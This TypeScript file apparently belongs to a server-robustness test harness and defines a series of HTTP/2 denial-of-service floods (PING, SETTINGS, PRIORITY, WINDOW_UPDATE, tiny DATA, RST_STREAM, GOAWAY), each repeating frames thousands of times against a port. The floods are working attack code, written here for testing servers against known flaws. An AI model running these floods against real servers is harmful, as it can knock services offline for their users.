import { ATTACK_MS, type Attack } from '../attack.ts';
import {
  chunks,
  END_HEADERS,
  frame,
  headers,
  INITIAL_WINDOW_SIZE,
  request,
  settings,
  TYPE,
  uint32,
  Wire,
} from '../wire.ts';

interface Flood {
  /** Said once before it. */
  readonly before?: readonly Buffer[];
  readonly reads?: boolean;
}

const REPEATED = 20_000;

/** The same few frames, over and over. */
function flood(
  name: string,
  faults: readonly string[],
  frames: readonly Buffer[],
  { before = [], reads = true }: Flood = {},
): Attack {
  return {
    name,
    target: 'usual',
    faults,
    prepare() {
      const pieces = chunks(Array.from({ length: REPEATED }, () => frames).flat());
      return async (port) => {
        const wire = await Wire.greeted(port, settings(), reads);
        for (const piece of before) wire.say(piece);
        await wire.flood(pieces, ATTACK_MS);
        wire.close();
        return wire.fate;
      };
    },
  };
}

const PING = frame(TYPE.PING, 0, 0, Buffer.alloc(8));
const UPLOAD = headers(1, request('/sink', 'POST'), END_HEADERS);
const OPEN = Array.from({ length: 128 }, (_, index) => headers(2 * index + 1, request('/slow')));
const UPLOADS = Array.from({ length: 64 }, (_, index) =>
  headers(2 * index + 1, request('/sink', 'POST'), END_HEADERS),
);

export const FLOODS: readonly Attack[] = [
  flood('PING', ['ping_flood'], [PING]),
  flood('PING, and nothing is read', ['ping_flood', 'unread_answers'], [PING], { reads: false }),
  flood('SETTINGS', ['settings_flood'], [settings()]),
  flood(
    'SETTINGS that change the windows of 128 streams',
    ['settings_flood'],
    [settings([INITIAL_WINDOW_SIZE, 1]), settings([INITIAL_WINDOW_SIZE, 100_000])],
    { before: OPEN },
  ),
  flood(
    'SETTINGS of 2,700 entries',
    ['settings_flood'],
    [settings(...Array.from({ length: 2700 }, (_, index) => [INITIAL_WINDOW_SIZE, index] as const))],
  ),
  flood('PRIORITY', ['priority_flood'], [frame(TYPE.PRIORITY, 0, 5, Buffer.alloc(5))]),
  flood(
    'WINDOW_UPDATE of the connection',
    ['window_update_flood'],
    [frame(TYPE.WINDOW_UPDATE, 0, 0, uint32(1))],
  ),
  flood('WINDOW_UPDATE of a stream', ['window_update_flood'], [frame(TYPE.WINDOW_UPDATE, 0, 1, uint32(1))], {
    before: OPEN.slice(0, 1),
  }),
  flood('empty DATA', ['empty_data_flood'], [frame(TYPE.DATA, 0, 1)], { before: [UPLOAD] }),
  flood(
    'DATA of nothing but padding',
    ['empty_data_flood'],
    [frame(TYPE.DATA, 8, 1, Buffer.from([3, 0, 0, 0]))],
    {
      before: [UPLOAD],
    },
  ),
  flood('DATA of one byte', ['tiny_data_flood'], [frame(TYPE.DATA, 0, 1, Buffer.from('x'))], {
    before: [UPLOAD],
  }),
  flood(
    'DATA of one byte, of 64 streams by turns',
    ['tiny_data_flood'],
    Array.from({ length: 64 }, (_, index) => frame(TYPE.DATA, 0, 2 * index + 1, Buffer.from('x'))),
    { before: UPLOADS },
  ),
  flood('frames of unknown type', ['unknown_frame_flood'], [frame(0xbb, 0, 0, Buffer.from('hello'))]),
  flood('RST_STREAM of a closed stream', ['reset_flood'], [frame(TYPE.RST_STREAM, 0, 1, uint32(8))], {
    before: [headers(1, request('/slow')), frame(TYPE.RST_STREAM, 0, 1, uint32(8))],
  }),
  flood('GOAWAY', ['unknown_frame_flood'], [frame(TYPE.GOAWAY, 0, 0, uint32(0, 0))], {
    before: OPEN.slice(0, 1),
  }),
];
